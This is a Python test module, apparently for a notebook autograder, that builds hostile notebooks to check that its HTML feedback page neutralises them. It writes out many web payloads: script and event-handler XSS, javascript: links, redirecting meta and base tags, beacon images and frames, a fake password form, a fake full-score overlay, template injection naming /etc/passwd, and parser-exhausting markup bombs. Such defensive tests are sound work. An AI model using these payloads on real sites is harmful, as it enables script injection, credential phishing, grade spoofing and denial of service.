"""Pages that act on their reader: what a notebook carries into the browser of whoever opens its feedback."""

from typing import Any

from . import LESSON, Notebook, add_cell, after_answer, bad, cell_of

BEACON = "http://127.0.0.1:9/beacon"


def shows(nb: Notebook, html: str) -> Notebook:
    """The notebook with an added code cell that displays HTML."""
    return add_cell(nb, f"from IPython.display import HTML\nHTML({html!r})")


def says(nb: Notebook, markdown: str) -> Notebook:
    """The notebook with an added Markdown cell."""
    return add_cell(nb, markdown, kind="markdown")


def writes(nb: Notebook, text: str) -> Notebook:
    """The notebook with an answer to its written question."""
    cell_of(nb, f"{LESSON}_question")["source"] = text
    return nb


def bundle(nb: Notebook, **data: Any) -> Notebook:
    """The notebook with an added code cell that displays raw MIME data."""
    bundle = {name.replace("_", "/"): value for name, value in data.items()}
    return add_cell(nb, f"get_ipython().display_pub.publish({bundle!r})")


@bad("full")
def script_in_markdown(nb: Notebook) -> Notebook:
    return says(nb, "<script>document.title = 'owned'; alert(1)</script>")


@bad("full")
def script_in_the_written_answer(nb: Notebook) -> Notebook:
    return writes(nb, "My answer <script>alert(1)</script><img src=x onerror=alert(2)>")


@bad("full")
def script_in_an_output(nb: Notebook) -> Notebook:
    return shows(nb, "<script>document.title = 'owned'</script>")


@bad("full")
def script_by_display_javascript(nb: Notebook) -> Notebook:
    return add_cell(nb, "from IPython.display import Javascript\nJavascript('document.title = \"owned\"')")


@bad("full")
def image_whose_error_runs_code(nb: Notebook) -> Notebook:
    return says(nb, "<img src=x onerror=\"document.title='owned'\">")


@bad("full")
def handler_split_by_odd_characters(nb: Notebook) -> Notebook:
    return says(
        nb, '<svg/onload=alert(1)>\n\n<img/src/onerror=alert(1)>\n\n<a href="java&#09;script:alert(1)">x</a>'
    )


@bad("full")
def link_that_is_code(nb: Notebook) -> Notebook:
    return says(nb, "[see my proof](javascript:alert(1)) and [this](data:text/html;base64,PHNjcmlwdD4=)")


@bad("full")
def page_that_moves_on(nb: Notebook) -> Notebook:
    return says(nb, f'<meta http-equiv="refresh" content="0; url={BEACON}">')


@bad("full")
def base_that_moves_every_link(nb: Notebook) -> Notebook:
    return says(nb, f'<base href="{BEACON}/">')


@bad("full")
def image_beacon_in_markdown(nb: Notebook) -> Notebook:
    return says(nb, f"![figure]({BEACON}.png)")


@bad("full")
def image_beacon_in_an_output(nb: Notebook) -> Notebook:
    return shows(nb, f'<img src="{BEACON}.gif" width=1><link rel=stylesheet href="{BEACON}.css">')


@bad("full")
def style_that_loads(nb: Notebook) -> Notebook:
    return shows(nb, f"<style>@import url({BEACON}); body {{ background: url({BEACON}) }}</style>")


@bad("full")
def style_that_covers_the_page(nb: Notebook) -> Notebook:
    return says(nb, '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Score: 70 / 70</div>')


@bad("full")
def frame_of_another_page(nb: Notebook) -> Notebook:
    return shows(
        nb, f'<iframe src="{BEACON}"></iframe><object data="{BEACON}"></object><embed src="{BEACON}">'
    )


@bad("full")
def form_that_asks_for_a_password(nb: Notebook) -> Notebook:
    return shows(
        nb, f'<form action="{BEACON}"><input name=password autofocus><button>Sign in</button></form>'
    )


@bad("full")
def drawing_with_a_script(nb: Notebook) -> Notebook:
    return bundle(
        nb, **{"image_svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'}
    )


@bad("full")
def drawing_that_loads(nb: Notebook) -> Notebook:
    return bundle(
        nb, **{"image_svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{BEACON}"/></svg>'}
    )


@bad("full")
def picture_that_is_no_picture(nb: Notebook) -> Notebook:
    return bundle(nb, image_png='"><script>alert(1)</script>')


@bad("full")
def formula_with_a_link(nb: Notebook) -> Notebook:
    return says(nb, r"$\href{javascript:alert(1)}{x}$ and $$\unicode{<script>alert(1)</script>}$$")


@bad("full")
def latex_output(nb: Notebook) -> Notebook:
    return bundle(nb, text_latex=r"$\require{html}\href{javascript:alert(1)}{x}$")


@bad("full")
def widget_state(nb: Notebook) -> Notebook:
    nb["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_module": BEACON}}}
    }
    return bundle(nb, **{"application_vnd.jupyter.widget-view+json": {"model_id": "x"}})


@bad("full")
def terminal_colours_that_are_markup(nb: Notebook) -> Notebook:
    """Escape sequences of a terminal, with a link in them."""
    return add_cell(
        nb, "print('\\x1b[31m<script>alert(1)</script>\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07')"
    )


@bad("full")
def text_that_runs_backwards(nb: Notebook) -> Notebook:
    return says(
        nb,
        "Score \u202e07 / 07\u202c \u200b\ufeff and Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
    )


@bad("full")
def attachment_that_is_a_page(nb: Notebook) -> Notebook:
    nb = says(nb, "![x](attachment:x.html)")
    cell = next(c for c in nb["cells"] if c.get("id") == "added001")
    cell["attachments"] = {"x.html": {"text/html": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}}
    return nb


@bad("full")
def markup_in_an_exceptions_text(nb: Notebook) -> Notebook:
    return add_cell(nb, "raise ValueError('</pre><script>alert(1)</script>')")


@bad(("gradient_check",))
def markup_in_a_failing_answers_text(nb: Notebook) -> Notebook:
    code = "def gradient_check(x, theta, epsilon=1e-7):\n    raise ValueError('</pre><img src=x onerror=alert(1)>')\n"
    return after_answer(nb, "gradient_check", code)


@bad(("gradient_check",))
def markup_in_an_exceptions_name(nb: Notebook) -> Notebook:
    code = ("Evil = type('<script>alert(1)</script>', (Exception,), {})\n"
            "def gradient_check(x, theta, epsilon=1e-7):\n    raise Evil\n")  # fmt: skip
    return after_answer(nb, "gradient_check", code)


@bad("full")
def markup_in_a_cell_id(nb: Notebook) -> Notebook:
    nb = says(nb, "hello")
    next(c for c in nb["cells"] if c.get("id") == "added001")["id"] = '"><script>alert(1)</script>'
    return nb


@bad("full")
def template_language_in_markdown(nb: Notebook) -> Notebook:
    return says(nb, "{{ resources }} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }}")


@bad("full")
def ten_thousand_nested_quotes(nb: Notebook) -> Notebook:
    return says(nb, ">" * 10_000 + " deep\n\n" + "[" * 5_000 + "x" + "](y)" * 5_000)


@bad("full")
def characters_that_no_file_can_hold(nb: Notebook) -> Notebook:
    return add_cell(nb, "print('\\ud800 \\x00 \\x1b]0;owned\\x07')\nraise ValueError('\\udfff\\x00')")


@bad("full")
def room_that_reports_a_script(nb: Notebook) -> Notebook:
    """The room itself is made to send a script as a cell's output."""
    from .runaway import says_instead

    data = "{'application/javascript': 'alert(1)', 'text/html': '<script>alert(1)</script>'}"
    return says_instead(nb, f"[{{'output_type': 'display_data', 'data': {data}, 'metadata': {{}}}}]")


@bad("full")
def twenty_thousand_unclosed_formats(nb: Notebook) -> Notebook:
    """Each paragraph opens all of them anew, so a page takes the square of their number."""
    bomb = "''.join(f'<p><b id={n}>' for n in range(20_000))"
    return add_cell(nb, f"from IPython.display import HTML\nHTML({bomb})")


@bad("full")
def paragraphs_that_repeat_every_format(nb: Notebook) -> Notebook:
    bomb = "'<p>' + ''.join(f'<b id={n}>' for n in range(95)) + '<p>x' * 20_000"
    return add_cell(nb, f"from IPython.display import HTML\nHTML({bomb})")


@bad("full")
def elements_a_hundred_thousand_deep(nb: Notebook) -> Notebook:
    """The parser would end its process over them."""
    return add_cell(nb, "from IPython.display import HTML\nHTML('<div>' * 50_000)")


@bad("full")
def text_that_becomes_megabytes(nb: Notebook) -> Notebook:
    return says(nb, "".join(f"<p><b id={number}>" for number in range(20_000))[:11_300])


@bad("full")
def written_answer_that_becomes_megabytes(nb: Notebook) -> Notebook:
    return writes(nb, "<p>" + "".join(f"<i id={number}>" for number in range(95)) + "<p>" * 6_000)


@bad("full")
def half_tags_without_end(nb: Notebook) -> Notebook:
    return add_cell(nb, "from IPython.display import HTML\nHTML('<' * 300_000)")


@bad("full")
def formulas_in_one_another(nb: Notebook) -> Notebook:
    return says(nb, "$$" + r"\sqrt{" * 600 + "x" + "}" * 600 + "$$\n\n" + r"$\frac{a}{b}$ " * 900)
